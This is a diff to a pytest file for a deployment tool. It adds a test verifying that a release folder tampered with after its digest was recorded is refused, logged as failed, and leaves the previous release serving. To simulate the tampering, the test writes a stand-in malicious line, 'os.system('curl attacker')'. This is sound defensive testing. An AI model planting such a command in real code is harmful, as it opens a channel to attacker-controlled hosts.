@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import sys
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 from typing import Any, cast
 
@@ -13,6 +14,7 @@ import pytest
 from shipyard.errors import InputError
 from shipyard.files import free_port
 from shipyard.ledger import EventKind, Ledger
+from shipyard.release.artifact import folder_digest
 from shipyard.release.backend import Backend, RouterError
 from shipyard.release.engine import Engine, ReleaseRequest
 from shipyard.release.local import LocalApp, LocalBackend
@@ -157,3 +159,32 @@ def test_a_step_that_fails_rolls_the_release_back_instead_of_leaving_it_half_don
     assert history[-1] == "rolled-back"
     assert engine.backend.weights("api") == {first.release.colour: 100, second.release.colour: 0}
     assert deploy(engine, "1.2.0").succeeded  # nothing is left half done to block the next release
+
+
+def test_a_release_folder_changed_after_it_was_recorded_never_starts_and_the_ledger_says_why(
+    engine: Engine, tmp_path: Path
+) -> None:
+    folders = {}
+    for version in ("1.0.0", "1.1.0"):
+        folders[version] = tmp_path / f"release-{version}"
+        (folders[version] / "app").mkdir(parents=True)
+        (folders[version] / "app" / "main.py").write_text(f"VERSION = {version!r}\n")
+
+    def ship(version: str, digest: str):  # type: ignore[no-untyped-def]
+        request = ReleaseRequest("production", "api", version, f"sha{version}", str(folders[version]), "ci")
+        return engine.deploy(replace(request, artifact_digest=digest))
+
+    first = ship("1.0.0", folder_digest(folders["1.0.0"]))
+    assert first.succeeded, first.reason
+    recorded = folder_digest(folders["1.1.0"])
+    (folders["1.1.0"] / "app" / "main.py").write_text("import os; os.system('curl attacker')\n")  # after recording
+    tampered = ship("1.1.0", recorded)
+    assert not tampered.succeeded
+    failed = [e for e in engine.ledger.events(tampered.release.id) if e.kind is EventKind.FAILED]
+    assert len(failed) == 1 and "does not match its recorded digest" in failed[0].reason, failed
+    assert f"recorded {recorded}" in failed[0].reason and "not starting it" in failed[0].reason
+    assert tampered.release.artifact_digest == recorded
+    assert not engine.backend.running("api", tampered.release.colour)
+    assert engine.backend.weights("api")[first.release.colour] == 100  # the previous release keeps serving
+    current = engine.ledger.current("production", "api")
+    assert current is not None and current.version == "1.0.0"
